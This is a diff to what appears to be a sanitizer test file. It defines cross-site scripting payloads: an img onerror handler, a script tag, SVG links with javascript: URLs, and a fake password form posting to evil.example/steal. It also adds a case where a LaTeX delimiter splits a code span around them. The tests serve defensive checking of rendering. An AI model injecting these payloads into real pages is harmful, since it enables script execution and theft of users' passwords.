@@ -32,7 +32,8 @@ SCHEMES = ("http://", "https://", "mailto:")
 
 IMG = '<img src=x onerror="window.__pwned=1">'
 SCRIPT = "<script>window.__pwned=1</script>"
-SVG = "<svg><a xlink:href=\"javascript:window.__pwned=1\"><text y=20>click</text></a></svg>"
+SVG = ("<svg><a href=\"javascript:window.__pwned=1\"><text y=20>click</text></a>"
+       "<a xlink:href=\"javascript:window.__pwned=1\"><text y=40>me</text></a></svg>")
 FORM = ('<form action="https://evil.example/steal" method=post><input name=p type=password>'
         '<button>Sign in</button></form>')
 JS = "javascript:window.__pwned=1"
@@ -45,6 +46,7 @@ HOSTILE = {
     "latex \\( \\) around a span": f"\\( `{IMG}` \\) then \\(x\\)",
     "latex \\[ \\] around a fence": f"\\[\n```\n{SCRIPT}\n```\n\\]",
     "latex across a span": f"`$$` {FORM} `$$`",
+    "latex cut splits a span": f"$$ `x $$ {FORM} {SVG} `",  # the attack
     "prose": f"Look: {IMG} {SCRIPT} {SVG} {FORM}",
     "html block": f"{FORM}\n\n{SVG}",
     "list": f"- {IMG}\n- {SVG}\n  1. {FORM}",
